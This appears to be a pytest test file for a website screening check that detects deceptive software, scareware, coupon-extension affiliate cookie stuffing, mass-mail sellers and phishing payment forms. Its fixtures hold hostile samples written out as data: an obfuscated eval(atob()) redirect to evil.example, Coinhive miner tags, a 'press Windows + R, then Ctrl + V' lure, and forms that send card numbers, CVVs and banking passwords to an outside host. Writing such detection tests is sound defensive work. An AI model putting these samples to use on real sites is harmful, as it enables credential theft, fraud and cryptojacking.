"""Deceptive software and mass mail; old snippets, mail guards and articles about malware are none."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest

from screening.checks.result import Severity
from tests.screening.checks.content_sites import PROSE, document, severity, site

REDIRECT = base64.b64encode(b"window.location='https://evil.example/?a=1';").decode()
MAILTO = quote("document.write('<a href=\"mailto:jane@walks.example\">write</a>')", safe="").replace("d", "%64")
GOOGLE = "document.write(unescape(\"%3Cscript src='https://ssl.google-analytics.com/ga.js'%3E%3C/script%3E\"));"


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (f"<script>eval(atob('{REDIRECT}'))</script>", Severity.STRONG),
        ("<script>eval(atob(window.q))</script>", Severity.CAUTION),
        (f"<script>{GOOGLE}</script>", None),
        (f"<script>eval(unescape('{MAILTO}'))</script>", None),
        (f"<pre>eval(atob('{REDIRECT}'))</pre>", None),
        ("<script>eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}))</script>", None),
        ('<script src="https://coinhive.com/lib/coinhive.min.js"></script>', Severity.STRONG),
        ("<script>var miner = new CoinHive.Anonymous('key'); miner.start();</script>", Severity.STRONG),
        ("<p>Your computer is infected! 3 viruses detected on your PC.</p>", Severity.STRONG),
        ('<p>Your Flash Player is out of date.</p><a href="/update.exe">Update</a>', Severity.STRONG),
        ("<p>Verify you are human: press Windows + R, then Ctrl + V, and press Enter.</p>", Severity.STRONG),
        ("<p>Install our extension to see the code.</p>", Severity.CAUTION),
        ("<p>The toolbar sets your home page and shows offers on the pages that you visit.</p>", Severity.CAUTION),
        (
            "<p>The toolbar sets your home page and shows offers on the pages that you visit.</p>"
            '<a href="/toolbar.exe">Toolbar for Windows</a>',
            Severity.STRONG,
        ),
        ("<p>Our optional browser extension reminds members of cashback.</p>", None),
        (
            "<p>Stuffing means that a hidden iframe loads an affiliate link without a click. We do not do this.</p>",
            None,
        ),
        ("<p>A hidden frame opens an affiliate link and drops a cookie; the visitor sees nothing of it.</p>", None),
        ("<p>Some extensions open an affiliate link in a tab and close it. We never do that.</p>", None),
        ("<p>The toolbar replaces the cookie of whoever sent the visitor. Das machen wir nicht.</p>", None),
        ("<p>The extension replaces the cookie of whoever sent the visitor.</p>", Severity.CAUTION),
        ("<p>The app opens an affiliate link as soon as a shop is open.</p>", Severity.CAUTION),
        (
            "<p>Our extension loads our affiliate link on each shop. We do not do this for other shops.</p>"
            "<p>It replaces the cookie of others.</p>",
            Severity.STRONG,
        ),
        ("<p>Beware of scams: a page that says your computer is infected lies.</p>", Severity.NOTE),
    ],
)
def test_software(body: str, expected: Severity | None) -> None:
    assert severity(site(document(f"<p>{PROSE}</p>{body}")), "P-25") is expected


PUSHED = {
    "English": (
        "Perk Penguin: add to Chrome",
        "Add to Chrome, it is free. Rewards are activated in the background on 9,000 shops. Install now.",
    ),
    "required": (
        "Code Vault",
        "You must install the extension to see the codes. Install the extension: it applies codes at "
        "checkout and saves you money with coupons.",
    ),
    "toolbar": (
        "The Thrifty Toolbar",
        "Install the toolbar. Whenever you shop, discounts pop up. Download the toolbar now.",
    ),
    "German": (
        "Sparfuchs Browser-Erweiterung",
        "Jetzt installieren: testet alle Gutscheine an der Kasse. Zu Chrome hinzufügen.",
    ),
    "French": (
        "Radin, l'extension de navigateur",
        "Ajouter à Chrome. Elle teste les codes promo au moment du paiement. Installez l'extension.",
    ),
    "Spanish": (
        "Ahorrín, extensión para Chrome",
        "Añadir a Chrome. Prueba los cupones al pagar. Instala la extensión ya.",
    ),
    "Italian": (
        "Risparmina, estensione del browser",
        "Aggiungi a Chrome. Prova i codici sconto alla cassa. Installa ora.",
    ),
    "Dutch": (
        "Spaarvos browserextensie",
        "Toevoegen aan Chrome. Test kortingscodes bij het afrekenen. Nu installeren.",
    ),
    "Polish": (
        "Lisek: wtyczka do przeglądarki",
        "Dodaj do Chrome. Sprawdza kody rabatowe przy kasie. Zainstaluj teraz.",
    ),
    "Portuguese": ("Raposa, extensão para Chrome", "Adicionar ao Chrome. Testa cupons no checkout. Instale agora."),
}
NOT_PUSHED = {
    "review": (
        "Penguin browser extension review",
        "Add to Chrome, then install the extension: it applies coupons at checkout.",
    ),
    "cashback": (
        "Cashback club",
        "Earn cashback at 900 shops. Our extension is optional; add to Chrome if you like. It reminds you at checkout.",
    ),
    "dictionary": ("Lexi, a browser extension", "Add to Chrome. Install now. Look words up in the background."),
    "blog": ("Hill walks", "Read us in our app. Add to Chrome the offline reader."),
    "warning": (
        "Coupon extensions: how to remove them",
        "Never add to Chrome or install it: it sits at checkout for coupons.",
    ),
    "quoted": (
        "The shopping extension and I",
        "<blockquote>Add to Chrome! Install now! Coupons at checkout!</blockquote>",
    ),
}


@pytest.mark.parametrize("name", PUSHED)
def test_a_site_that_pushes_an_extension_into_shops_is_strong(name: str) -> None:
    title, text = PUSHED[name]
    assert severity(site(document(f"<p>{text}</p><p>{PROSE}</p>", title)), "P-25") is Severity.STRONG


@pytest.mark.parametrize("name", NOT_PUSHED)
def test_a_site_that_has_or_weighs_an_extension_is_not(name: str) -> None:
    title, text = NOT_PUSHED[name]
    assert severity(site(document(f"<p>{text}</p><p>{PROSE}</p>", title)), "P-25") is None


def test_alarms_that_a_warning_quotes_are_none() -> None:
    body = "<p>The scam begins so:</p><blockquote>Your computer is infected. 3 viruses detected.</blockquote>"
    assert severity(site(document(f"<p>{PROSE}</p>{body}")), "P-25") is None


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("<p>We send email blasts to 40 million addresses. Buy email lists by country.</p>", Severity.STRONG),
        ("<p>Subscribe to our newsletter; leave at any time.</p>", None),
        ("<p>Never buy email lists: bulk email is against the law.</p>", None),
    ],
)
def test_mail(body: str, expected: Severity | None) -> None:
    assert severity(site(document(f"<p>{PROSE}</p>{body}")), "P-26") is expected


def test_an_extension_that_only_its_heading_promises_is_pushed_and_its_background_tab_counts() -> None:
    home = "<p>Add to Chrome, it is free. Add to Chrome. It tries all codes for you in the background.</p>"
    named = document(f"<p>{home}</p><p>{PROSE}</p>", "Every coupon, automatically, at the checkout")
    assert severity(site(named), "P-25") is Severity.STRONG
    tab = "<p>It opens our link in a background tab, so we are paid even when you came from another site.</p>"
    assert severity(site(document(f"<p>{PROSE}</p>{tab}")), "P-25") is Severity.STRONG


_CARD = '<label>Card number <input name="cc"></label><label>CVV <input name="cv"></label>'
_AWAY = '<form method="post" action="https://rm-pay.example.net/c.php">'


@pytest.mark.parametrize(
    "form",
    [
        f'{_AWAY}{_CARD}<label>Banking password <input type="password" name="bp"></label></form>',
        f'{_AWAY}{_CARD}<label>Code from the text message <input name="o"></label></form>',
        f'{_AWAY}<input name="n" placeholder="Kartennummer"><input name="p" placeholder="Prüfziffer"><label for="b">'
        'Passwort Ihres Online-Bankings</label><input id="b" type="password"></form>',
        f'{_AWAY}<input name="num"><input name="cvc"><input name="k" autocomplete="one-time-code"></form>',
        f'{_AWAY}<input name="n"><input name="card_cvv"><label>Code by text message <input name="o"></label></form>',
        f'{_AWAY}<label>Your card <input name="n"></label><label>Security code <input name="s"></label>'
        '<input type="password" name="p" placeholder="Online banking password"></form>',
        f'{_AWAY}<input name="a"><input name="b" placeholder="Cryptogramme"><input name="m" type="password" '
        'placeholder="Mot de passe de votre banque"></form>',
    ],
)
def test_a_form_that_takes_card_and_bank_elsewhere_is_strong(form: str) -> None:
    assert severity(site(document(f"<p>{PROSE}</p>{form}")), "P-25") is Severity.STRONG


@pytest.mark.parametrize(
    ("form", "expected"),
    [
        # A shop's own till, a provider's till, an account made on the way, a code by text of the shop's own, a bank's
        # sign-in with a code.
        (f'<form method="post" action="/pay">{_CARD}<input name="name"></form>', None),
        (f'{_AWAY}{_CARD}<input name="name"></form>', None),
        (f'{_AWAY}{_CARD}<label>Choose a password <input type="password" name="pw"></label></form>', None),
        (f'<form action="/pay">{_CARD}<label>Code from the text message <input name="o"></label></form>', None),
        (
            f'{_AWAY}<input name="n"><label>Security code <input name="s"></label>'
            '<input type="password" placeholder="Online banking password"></form>',
            None,
        ),
        # A picture of such a form, a sign-in beside a till, and a bank's own page.
        (
            f'{_AWAY}<fieldset disabled>{_CARD}<label>Bank key <input type="password"></label></fieldset></form>',
            None,
        ),
        (f'{_AWAY}{_CARD}<input name="n"></form><form><input name="bank" type="password"></form>', None),
        (f'<form>{_CARD}<label>Banking password <input type="password" name="b"></label></form>', Severity.CAUTION),
    ],
)
def test_tills_and_pictures_of_forms_are_not(form: str, expected: Severity | None) -> None:
    assert severity(site(document(f"<p>{PROSE}</p>{form}")), "P-25") is expected
